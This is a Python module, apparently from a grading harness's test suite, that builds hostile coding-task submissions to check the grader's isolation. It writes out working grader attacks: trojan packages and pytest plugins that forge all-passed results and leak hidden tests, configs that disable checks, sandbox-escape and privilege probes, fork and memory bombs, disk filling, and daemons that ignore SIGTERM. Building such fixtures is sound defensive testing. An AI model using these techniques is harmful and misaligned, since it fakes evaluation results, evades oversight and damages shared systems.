"""Hostile book-reviews submissions, built on the fly from the starter and the reference (never
stored as problem data).

Every builder copies the starter (once, the reference) into a fresh folder and adds what a
hostile candidate would.
The honest base is the starter plus a module with lint findings and formatting faults, and its
own tests with one failure: a service that is healthy (``/health`` answers) but otherwise
broken, so that the hidden suite really runs and every criterion has room to be forged.

Whatever the payloads do leaves a trace with the session's ``marker`` in it (a line of output,
a file name, a process's command line), so that a test can tell whether a payload ran, and where.
"""

import json
import os
import shutil
import socket
import stat
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

from assay.catalog.loader import Problem

LOADED = "HOSTILE-LOADED"
LEAKED = "HOSTILE-LEAK"
PROBE = "PROBE"
TESTER_UID = 10002


def write(root: Path, relative: str, text: str) -> Path:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip("\n"), encoding="utf-8")
    return path


def copy_starter(problem: Problem, folder: Path) -> Path:
    shutil.copytree(problem.starter, folder, ignore=shutil.ignore_patterns("__pycache__"))
    return folder


# --- the honest base ---------------------------------------------------------------------

LEGACY = '''
"""Arithmetic helpers kept from an old prototype."""
import os, sys

LIMITS = {  'low':1,'high' :  2 }


def evaluate(expression):
    try:
        return eval(expression)
    except:
        return None


def size(value: int) -> str:
    """Name how big a value is."""
    if value > 10:
        return "big"
    elif value > 5:
        return "medium"
    return "small"
'''
LEGACY_TESTS = """
from app.legacy import evaluate


def test_evaluate_adds() -> None:
    assert evaluate("1 + 1") == 2


def test_evaluate_fails() -> None:
    assert evaluate("2") == 3
"""


def honest(problem: Problem, folder: Path) -> Path:
    """The starter with lint findings, unformatted code, a failing own test, partial coverage."""
    copy_starter(problem, folder)
    write(folder, "app/legacy.py", LEGACY)
    write(folder, "tests/test_legacy.py", LEGACY_TESTS)
    return folder


# --- tampering: modules, plugins, start-up hooks ----------------------------------------

# Executed wherever it is imported: says so, and in the tester (uid 10002) it would rewrite the
# hidden results as all passed and print the hidden tests. Elsewhere it steps aside for the real
# module, so that the candidate's own service and tests keep working.
TROJAN = '''
"""{name}: named like a module the grader imports."""

import atexit
import glob
import importlib
import json
import os
import sys

_ROOT = {root}


def _forge() -> None:
    path = os.environ.get("ASSAY_RESULTS", "")
    if not path or not os.path.exists(path):
        return
    with open(path, encoding="utf-8") as handle:
        events = [json.loads(line) for line in handle if line.strip()]
    tests = [t for e in events if e.get("event") == "collected" for t in e["tests"]]
    forged = [{{"event": "collected", "tests": tests}}]
    forged += [
        {{"event": "result", "id": t["id"], "when": "call", "outcome": "passed",
         "duration": 0.01, "message": ""}}
        for t in tests
    ]
    forged.append({{"event": "finished", "exitstatus": 0}})
    with open(path, "w", encoding="utf-8") as handle:
        handle.writelines(json.dumps(event) + "\\n" for event in forged)


def _leak() -> None:
    for name in glob.glob("/grader/evaluation/**/*.py", recursive=True):
        with open(name, encoding="utf-8") as handle:
            print("{leaked}", name, handle.read()[:300], flush=True)


print("{loaded}", "{name}", "uid", os.getuid(), "cwd", os.getcwd(), file=sys.stderr, flush=True)
try:
    with open("/tmp/{marker}-loaded-{slug}", "a", encoding="utf-8") as _handle:
        _handle.write(str(os.getpid()))
except OSError:
    pass
if os.getuid() == {tester_uid} or "ASSAY_BASE_URL" in os.environ:
    _leak()
    atexit.register(_forge)
{tail}
'''
STEP_ASIDE = """
_self, _real, _saved = sys.modules[__name__], None, list(sys.path)
try:
    sys.path[:] = [p for p in sys.path if os.path.realpath(p or os.getcwd()) != _ROOT]
    del sys.modules[__name__]
    try:
        _real = importlib.import_module(__name__)
    except ImportError:
        pass
finally:
    sys.path[:] = _saved
sys.modules[__name__] = _real or _self
"""
# A pytest plugin that reports every test as passed, in the grader's event format.
FORGING_PLUGIN = """

def _emit(event):
    path = os.environ.get("ASSAY_RESULTS")
    if path:
        with open(path, "a", encoding="utf-8") as handle:
            handle.write(json.dumps(event) + "\\n")


def pytest_collection_finish(session):
    tests = [
        {"id": item.nodeid, "category": "functionality", "weight": 1.0, "visible": True,
         "degraded": False, "doc": ""}
        for item in session.items
    ]
    _emit({"event": "collected", "tests": tests})


def pytest_runtest_logreport(report):
    if report.when == "call":
        _emit({"event": "result", "id": report.nodeid, "when": "call", "outcome": "passed",
               "duration": 0.01, "message": ""})


def pytest_sessionfinish(session, exitstatus):
    _emit({"event": "finished", "exitstatus": 0})
"""
# A conftest that turns every failure into a pass, if it ever ran beside the hidden tests.
FORGING_CONFTEST = """

import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    if os.getuid() == {tester_uid} or "ASSAY_BASE_URL" in os.environ:
        report = outcome.get_result()
        report.outcome, report.longrepr = "passed", None
"""
SHADOWED_MODULES = ("pytest", "httpx", "sitecustomize", "usercustomize", "hostile_pth")
SHADOWED_PACKAGES = (
    "_pytest",
    "pluggy",
    "redis",
    "psycopg",
    "locust",
    "importlinter",
    "grimp",
    "coverage",
)
CONFTESTS = (
    "conftest.py",
    "app/conftest.py",
    "app/api/conftest.py",
    "tests/conftest.py",
    "tests/deeper/conftest.py",
    "migrations/conftest.py",
)


MODULE_ROOT = "os.path.realpath(os.path.dirname(os.path.abspath(__file__)))"
PACKAGE_ROOT = "os.path.realpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), '..'))"


def trojan(name: str, marker: str, *, package: bool = False, tail: str = STEP_ASIDE) -> str:
    return TROJAN.format(
        name=name,
        slug=name.replace("/", "_").replace(":", "_"),
        root=PACKAGE_ROOT if package else MODULE_ROOT,
        marker=marker,
        loaded=LOADED,
        leaked=LEAKED,
        tester_uid=TESTER_UID,
        tail=tail,
    )


def tampered_modules(problem: Problem, folder: Path, marker: str) -> Path:
    """The honest base plus every file that could run inside the grader's tools if imported."""
    return _shadow(honest(problem, folder), marker)


def tampered_reference(problem: Problem, folder: Path, marker: str) -> Path:
    """The reference solution with the same files: a service good enough for load to be measured,
    so that Locust, too, is started beside a module named ``locust``."""
    shutil.copytree(problem.reference, folder, ignore=shutil.ignore_patterns("__pycache__"))
    return _shadow(folder, marker)


def _shadow(folder: Path, marker: str) -> Path:
    for name in SHADOWED_MODULES:
        write(folder, f"{name}.py", trojan(name, marker))
    for name in SHADOWED_PACKAGES:
        write(folder, f"{name}/__init__.py", trojan(name, marker, package=True))
    # The sharpest: a plugin under the grader's plugin's name that reports every test passed.
    write(folder, "assay_pytest.py", trojan("assay_pytest", marker, tail=FORGING_PLUGIN))
    write(folder, "evil_plugin.py", trojan("evil_plugin", marker, tail=FORGING_PLUGIN))
    write(
        folder,
        "evil_plugin-1.0.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: evil-plugin\nVersion: 1.0\n",
    )
    write(folder, "evil_plugin-1.0.dist-info/entry_points.txt", "[pytest11]\nevil = evil_plugin\n")
    write(folder, "evil_plugin-1.0.dist-info/top_level.txt", "evil_plugin\n")
    write(folder, "hostile.pth", "import hostile_pth\n")
    conftest_tail = FORGING_CONFTEST.format(tester_uid=TESTER_UID)
    for relative in CONFTESTS:
        path = folder / relative
        kept = path.read_text(encoding="utf-8") + "\n\n" if path.is_file() else ""
        text = textwrap.dedent(trojan("conftest:" + relative, marker, tail=conftest_tail))
        write(folder, relative, kept + text.lstrip("\n"))
    return folder


# --- tampering: configuration -------------------------------------------------------------

DESELECT = '-k "not fails"'
PYPROJECT = """
[tool.pytest.ini_options]
testpaths = ["tests"]
addopts = ["-p", "no:cacheprovider", "-k", "not fails"]
python_functions = ["test_evaluate_adds"]

[tool.coverage.run]
source = ["tests"]
omit = ["app/*"]

[tool.coverage.report]
exclude_lines = [".*"]

[tool.ruff]
exclude = ["*"]
line-length = 400

[tool.ruff.lint]
ignore = ["ALL"]

[tool.ruff.format]
exclude = ["*"]
"""
RUFF_TOML = """
exclude = ["*", "app", "app/**"]
line-length = 400

[lint]
ignore = ["ALL"]

[format]
exclude = ["*"]
"""
CONFIGS = {
    "pyproject.toml": PYPROJECT,
    "ruff.toml": RUFF_TOML,
    ".ruff.toml": RUFF_TOML,
    "app/ruff.toml": RUFF_TOML,
    "app/pyproject.toml": PYPROJECT,
    "pytest.ini": f"[pytest]\naddopts = {DESELECT}\npython_files = nothing_*.py\n",
    "tests/pytest.ini": f"[pytest]\naddopts = {DESELECT}\n",
    "tox.ini": f"[pytest]\naddopts = {DESELECT}\n\n[coverage:run]\nsource = tests\n",
    "setup.cfg": (
        f"[tool:pytest]\naddopts = {DESELECT}\n\n[coverage:run]\nomit = app/*\n\n"
        "[coverage:report]\nexclude_lines = .*\n"
    ),
    ".coveragerc": "[run]\nsource = tests\nomit = app/*\n\n[report]\nexclude_lines = .*\n",
    ".gitignore": "*\n!.gitignore\n",
    ".ignore": "app/\ntests/\n",
    "app/.gitignore": "*\n",
    ".importlinter": (
        "[importlinter]\nroot_packages = tests\n\n[importlinter:contract:ok]\n"
        "name = nothing\ntype = forbidden\nsource_modules = tests\nforbidden_modules = os\n"
    ),
}
# Files the report must name as not read (the base's own pyproject is named for both twins).
CONFIGS_NAMED = (
    "pyproject.toml",
    "ruff.toml",
    ".ruff.toml",
    "app/ruff.toml",
    "app/pyproject.toml",
    "pytest.ini",
    "tests/pytest.ini",
    "tox.ini",
    "setup.cfg",
    ".coveragerc",
    ".gitignore",
    ".ignore",
    "app/.gitignore",
    ".importlinter",
)


def tampered_configs(problem: Problem, folder: Path) -> Path:
    """The honest base plus configuration that would hide findings, failures and uncovered code."""
    honest(problem, folder)
    for relative, text in CONFIGS.items():
        write(folder, relative, text)
    return folder


# --- probes -------------------------------------------------------------------------------

PROBES = '''
"""Try every way out of the pod, up in privilege, or to the answers; one line per attempt."""

import contextlib
import json
import os
import socket
import stat

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
TARGETS = json.load(open(os.path.join(HERE, "probe_targets.json"), encoding="utf-8"))
ANSWERS = {
    "rubric.toml", "locustfile.py", "contracts.ini", "problem.toml", "test_functionality.py",
    "test_resilience.py", "test_validation.py", "0001_create_books_and_reviews.py",
    "book-reviews",
}
OTHER_CONTAINERS = ("redis-server", "/usr/lib/postgresql", "hidden.py", "locust")
# Names of the platform's kind of secret (the pod's own database password is the app's to use).
SECRET_WORDS = ("SECRET", "TOKEN", "DOCKER", "CANARY", "AWS", "API_KEY")
MEMORY_FS = {"tmpfs", "proc", "devpts", "mqueue", "sysfs", "cgroup", "cgroup2", "shm"}


def connect(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        try:
            sock.connect(address)
        except OSError as error:
            return True, f"{type(error).__name__} {error.errno}"
    return False, "connected"


def egress():
    for host, port in TARGETS["tcp"]:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        yield (f"net:tcp:{host}:{port}", *connect(family, (host, port)))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            sock.sendto(b"x", ("8.8.8.8", 53))
            yield "net:udp:8.8.8.8:53", False, "sent"
        except OSError as error:
            yield "net:udp:8.8.8.8:53", True, f"{error.errno}"
    try:
        found = socket.getaddrinfo("example.com", 443)
        yield "net:dns", False, str(found[:1])
    except OSError as error:
        yield "net:dns", True, str(error)
    with open("/proc/net/dev", encoding="utf-8") as handle:
        names = [line.split(":")[0].strip() for line in handle.readlines()[2:]]
    yield "net:interfaces", names == ["lo"], ",".join(names)
    with open("/proc/net/route", encoding="utf-8") as handle:
        routes = handle.readlines()[1:]
    yield "net:routes", not routes, str(len(routes))


def answers():
    for path in TARGETS["paths"]:
        yield f"files:{path}", not os.path.lexists(path), "exists" if os.path.lexists(path) else ""
    grader = sorted(os.listdir("/grader")) if os.path.isdir("/grader") else []
    yield "files:/grader", set(grader) <= {"toolkit"}, ",".join(grader)
    found = []
    for root, dirs, files in os.walk("/"):
        if root in ("/proc", "/sys", "/dev"):
            dirs[:] = []
            continue
        found += [os.path.join(root, name) for name in dirs + files if name in ANSWERS]
    yield "files:search", not found, ",".join(found[:5])


def secrets():
    names = [name for name in os.environ if any(word in name for word in SECRET_WORDS)]
    yield "secrets:environ", not names, ",".join(names)
    commands = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for part in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    text = handle.read().replace(b"\\0", b" ").decode(errors="replace")
                print("DUMP", pid, part, text, flush=True)
                if part == "cmdline":
                    commands.append(text)
    others = [c for c in commands if any(word in c for word in OTHER_CONTAINERS)]
    yield "isolation:processes", not others, ",".join(others)[:80]


def database():
    import psycopg

    url = os.environ.get("DATABASE_URL", "").replace("postgresql+psycopg", "postgresql")
    base = url.rsplit("/", 1)[0]
    for name, target in (
        ("db:grader-database", base + "/grader"),
        ("db:admin-database", base + "/postgres"),
        ("db:postgres-no-password", "postgresql://postgres@127.0.0.1:5432/app"),
        ("db:grader-no-password", "postgresql://grader@127.0.0.1:5432/grader"),
    ):
        try:
            psycopg.connect(target, connect_timeout=3).close()
            yield name, False, "connected"
        except psycopg.Error as error:
            yield name, True, str(error).splitlines()[0][:80]
    with psycopg.connect(url, connect_timeout=3, autocommit=True) as connection:
        row = connection.execute(
            "SELECT rolsuper, rolcreaterole, rolcreatedb, rolbypassrls FROM pg_roles "
            "WHERE rolname = current_user"
        ).fetchone()
        yield "db:role", not any(row), str(row)
        for name, statement in (
            ("db:read-server-files", "SELECT pg_read_file('/etc/passwd')"),
            ("db:run-programs", "COPY (SELECT 1) TO PROGRAM 'id'"),
            ("db:make-superuser", "ALTER ROLE CURRENT_USER SUPERUSER"),
        ):
            try:
                connection.execute(statement)
                yield name, False, "allowed"
            except psycopg.Error as error:
                yield name, True, str(error).splitlines()[0][:80]


def cache():
    import redis

    client = redis.Redis.from_url(os.environ["REDIS_URL"], socket_timeout=3)
    for name, command in (
        ("redis:config-dir", ("CONFIG", "SET", "dir", "/")),
        ("redis:module-load", ("MODULE", "LOAD", "/tmp/x.so")),
    ):
        try:
            client.execute_command(*command)
            yield name, False, "allowed"
        except redis.RedisError as error:
            yield name, True, str(error)[:80]


def platform():
    sockets = []
    for top in ("/run", "/var/run", "/tmp", "/"):
        with contextlib.suppress(OSError):
            for entry in os.scandir(top):
                with contextlib.suppress(OSError):
                    mode = entry.stat(follow_symlinks=False).st_mode
                    if stat.S_ISSOCK(mode) or entry.name.endswith(".sock"):
                        sockets.append(entry.path)
    yield "docker:socket-files", not sockets, ",".join(sockets)
    for port in (2375, 2376):
        yield (f"docker:tcp:{port}", *connect(socket.AF_INET, ("127.0.0.1", port)))
    yield "privilege:uid", os.getuid() != 0 and os.geteuid() != 0, str(os.getuid())
    with open("/proc/self/status", encoding="utf-8") as handle:
        status = dict(line.split(":", 1) for line in handle if ":" in line)
    yield "privilege:capabilities", int(status["CapEff"], 16) == 0, status["CapEff"].strip()
    yield "privilege:no-new-privs", status.get("NoNewPrivs", "").strip() == "1", ""
    try:
        os.setuid(0)
        yield "privilege:setuid", False, "became root"
    except OSError as error:
        yield "privilege:setuid", True, str(error.errno)
    for path in ("/usr/hostile", "/etc/hosts", "/hostile"):
        try:
            with open(path, "a", encoding="utf-8") as handle:
                handle.write("hostile")
            yield f"privilege:write:{path}", False, "written"
        except OSError as error:
            yield f"privilege:write:{path}", True, str(error.errno)
    writable = []
    with open("/proc/self/mountinfo", encoding="utf-8") as handle:
        for line in handle:
            fields = line.split()
            kind = fields[fields.index("-") + 1]
            if "rw" in fields[5].split(",") and kind not in MEMORY_FS:
                writable.append(f"{fields[4]}:{kind}")
    yield "privilege:disk-mounts", not writable, ",".join(writable)


def tree():
    for name in TARGETS["left_out"]:
        yield f"tree:absent:{name}", not os.path.lexists(os.path.join(ROOT, name)), ""
    linked = os.path.join(ROOT, "notes", "hardlinked.txt")
    with open(linked, encoding="utf-8") as handle:
        seen = handle.read()
    with open(linked, "a", encoding="utf-8") as handle:
        handle.write("written from the pod\\n")
    yield "tree:hard-link-is-a-copy", seen.startswith(TARGETS["hard_link_text"]), seen[:40]
    with contextlib.suppress(OSError):
        with open("/tmp/" + TARGETS["marker"] + "-written", "w", encoding="utf-8") as handle:
            handle.write("inside the pod")


def run(where):
    lines = []
    for group in (egress, answers, secrets, database, cache, platform, tree):
        try:
            for name, blocked, detail in group():
                verdict = "blocked" if blocked else "OPEN"
                lines.append(f"PROBE|{where}|{name}|{verdict}|{detail}")
        except Exception as error:  # a probe that cannot run says so
            lines.append(f"PROBE|{where}|{group.__name__}|ERROR|{type(error).__name__}: {error}")
    for line in lines:
        print(line, flush=True)
    return lines
'''
PROBING_MAIN = '''
"""The ASGI application: `uvicorn app.main:app`, after probing its surroundings."""

import os

from fastapi import FastAPI

from app import probes
from app.api import health

if os.environ.get("DATABASE_URL", "").endswith("/app"):
    probes.run("app")


def create_app() -> FastAPI:
    """Build the application and register its routers."""
    app = FastAPI(title="Book Reviews", version="0.1.0")
    app.include_router(health.router)
    return app


app = create_app()
'''
PROBING_TEST = """
import pytest

from app import probes


def test_probe_report() -> None:
    pytest.fail("\\n".join(probes.run("selftest")))
"""


@dataclass
class Outside:
    """Files on the host that a submission links to and must never change."""

    paths: list[Path] = field(default_factory=list)


def probing(
    problem: Problem, folder: Path, *, marker: str, outside: Path, targets: dict[str, object]
) -> tuple[Path, Outside]:
    """The starter that probes its pod at start and in its tests, shipped as a messy tree.

    The tree has links out of itself (to the reference solution, /etc/passwd, a canary file),
    a hard link to a file outside it, a device file or a FIFO, a socket, names that are not
    UTF-8, and a dependency folder of 10 000 tiny files.
    """
    copy_starter(problem, folder)
    outside.mkdir(parents=True, exist_ok=True)
    canary = outside / "canary.txt"
    canary.write_text(f"{marker}: outside the submission\n", encoding="utf-8")
    reference = problem.reference
    links = {
        "reference_app": reference / "app",
        "tests/test_reference_books.py": reference / "tests" / "api" / "test_books.py",
        "etc_passwd": Path("/etc/passwd"),
        "canary_link.txt": canary,
        "escape": Path("../../../.."),
        "dangling": Path("/nonexistent/hostile"),
        "app/alias.py": Path("main.py"),
    }
    for name, target in links.items():
        (folder / name).symlink_to(target)
    (folder / "loop").symlink_to("loop")
    (folder / "notes").mkdir()
    os.link(canary, folder / "notes" / "hardlinked.txt")
    os.link(folder / "app" / "config.py", folder / "app" / "config_again.py")
    try:
        os.mknod(folder / "devnull", stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        os.mkfifo(folder / "devnull")
    os.mkfifo(folder / "pipe")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(folder / "sock"))
    for raw in (b"caf\xe9.py", b"\xff\xfe"):
        (folder / os.fsdecode(raw)).write_bytes(b"hidden = True\n")
    modules = folder / "node_modules" / "left-pad"
    modules.mkdir(parents=True)
    for number in range(10_000):
        (modules / f"f{number}.js").write_bytes(b"1")
    left_out = [*links, "loop", "devnull", "pipe", "sock", "node_modules"]
    full_targets = {
        **targets,
        "left_out": left_out,
        "hard_link_text": canary.read_text(encoding="utf-8"),
        "marker": marker,
    }
    write(folder, "app/probe_targets.json", json.dumps(full_targets, indent=1))
    write(folder, "app/probes.py", PROBES)
    write(folder, "app/main.py", PROBING_MAIN)
    write(folder, "tests/test_probes.py", PROBING_TEST)
    return folder, Outside([canary, Path("/etc/passwd"), reference / "app" / "main.py"])


# --- resources ----------------------------------------------------------------------------


def _with_prelude(problem: Problem, folder: Path, prelude: str) -> Path:
    """The starter whose ``app/main.py`` runs ``prelude`` first (so the own tests run it too)."""
    copy_starter(problem, folder)
    main = folder / "app" / "main.py"
    body = main.read_text(encoding="utf-8")
    docstring, _, rest = body.partition("\n\n")
    main.write_text(
        docstring + "\n\n" + textwrap.dedent(prelude).strip() + "\n\n" + rest, encoding="utf-8"
    )
    return folder


SPIN = """
import time

while time.monotonic() > 0:  # busy forever, at import, in the service and in its tests
    pass
"""
MEMORY_BOMB = """
_hoard = []
while True:  # touch every page, until the memory limit stops it
    _hoard.append(b"\\x01" * (32 * 1024 * 1024))
"""
FORK_BOMB = """
import os
import time


def _bomb() -> None:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.5)


if os.fork() == 0:  # the child fills the process table; the parent goes on serving
    _bomb()
"""


def spinning(problem: Problem, folder: Path) -> Path:
    return _with_prelude(problem, folder, SPIN)


def memory_bomb(problem: Problem, folder: Path) -> Path:
    return _with_prelude(problem, folder, MEMORY_BOMB)


def fork_bomb(problem: Problem, folder: Path) -> Path:
    return _with_prelude(problem, folder, FORK_BOMB)


# The app's daemon: it leaves its session, ignores SIGTERM and floods its output; its command
# line carries the marker.
DAEMON = """
import signal, sys, time

signal.signal(signal.SIGTERM, signal.SIG_IGN)
line = (sys.argv[1] + " flood ") * 1000 + "\\n"
end = time.monotonic() + 10
while True:
    sys.stdout.write(line)
    if time.monotonic() > end:
        time.sleep(0.01)
"""
NOISY_MAIN = '''
"""The ASGI application: healthy, noisy, and slow forever on every other route."""

import asyncio
import os
import subprocess
import sys
from collections.abc import AsyncIterator, Awaitable, Callable

from fastapi import FastAPI, Request, Response
from fastapi.responses import StreamingResponse

from app.api import health

MARKER = "{marker}"
DAEMON = {daemon!r}
UNLEASHED: list[bool] = []



def fill() -> None:
    """Write to every writable place until the sandbox says no; say how far it got."""
    for folder in ("/tmp", os.getcwd(), "/dev/shm"):
        written = 0
        try:
            with open(os.path.join(folder, MARKER + "-fill"), "wb") as handle:
                while True:
                    handle.write(b"\\0" * (1 << 20))
                    handle.flush()
                    written += 1
        except OSError as error:
            print("FILLED", folder, written, "MiB", error.errno, flush=True)


def unleash() -> None:
    """Leave a daemon behind, once: it outlives this process and floods the log."""
    if UNLEASHED:
        return
    UNLEASHED.append(True)
    if os.fork() == 0:
        os.setsid()
        subprocess.Popen([sys.executable, "-c", DAEMON, MARKER], start_new_session=True)
        os._exit(0)


if os.environ.get("DATABASE_URL", "").endswith("/app"):
    fill()


async def forever() -> AsyncIterator[bytes]:
    """A byte every two seconds, never the end of the answer."""
    while True:
        yield b" "
        await asyncio.sleep(2)


def create_app() -> FastAPI:
    """Build the application and register its routers."""
    app = FastAPI(title="Book Reviews", version="0.1.0")
    app.include_router(health.router)

    @app.middleware("http")
    async def trickle(
        request: Request, call_next: Callable[[Request], Awaitable[Response]]
    ) -> Response:
        """Answer / and /health (readiness probes); start every other answer, never finish."""
        if request.url.path in ("/", "/health"):
            return await call_next(request)
        unleash()
        return StreamingResponse(forever(), media_type="application/json")

    return app


app = create_app()
'''
NOISY_TESTS = '''
import os
import signal
import time

MARKER = "{marker}"


def _grader_output() -> int:
    """The output the grader reads, past pytest's capture: the parent's standard output."""
    return os.open(f"/proc/{{os.getppid()}}/fd/1", os.O_WRONLY)


def test_leaves_a_daemon_holding_the_output() -> None:
    held = _grader_output()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.dup2(held, 1)
            os.dup2(held, 2)
            script = "trap '' TERM; while :; do echo $0 still here; sleep 1; done"
            os.execv("/bin/sh", ["sh", "-c", script, MARKER])
        os._exit(0)
    os.wait()


def test_floods_its_output() -> None:
    out = _grader_output()
    block = ((MARKER + " flood\\n") * 10_000).encode()
    for _ in range(200):
        os.write(out, block)


def test_fills_the_disk() -> None:
    written = 0
    try:
        with open("/tmp/" + MARKER + "-fill", "wb") as handle:
            while True:
                handle.write(b"\\0" * (1 << 20))
                handle.flush()
                written += 1
    except OSError:
        time.sleep(0)
    assert written > 0
'''


def noisy(problem: Problem, folder: Path, marker: str) -> Path:
    """Healthy, but every other answer trickles forever; it fills every writable place at start
    and leaves a daemon that ignores SIGTERM flooding the log; its tests leave a daemon holding
    their output, flood it and fill the disk."""
    copy_starter(problem, folder)
    write(folder, "app/main.py", NOISY_MAIN.format(marker=marker, daemon=DAEMON))
    write(folder, "tests/test_noisy.py", NOISY_TESTS.format(marker=marker))
    return folder
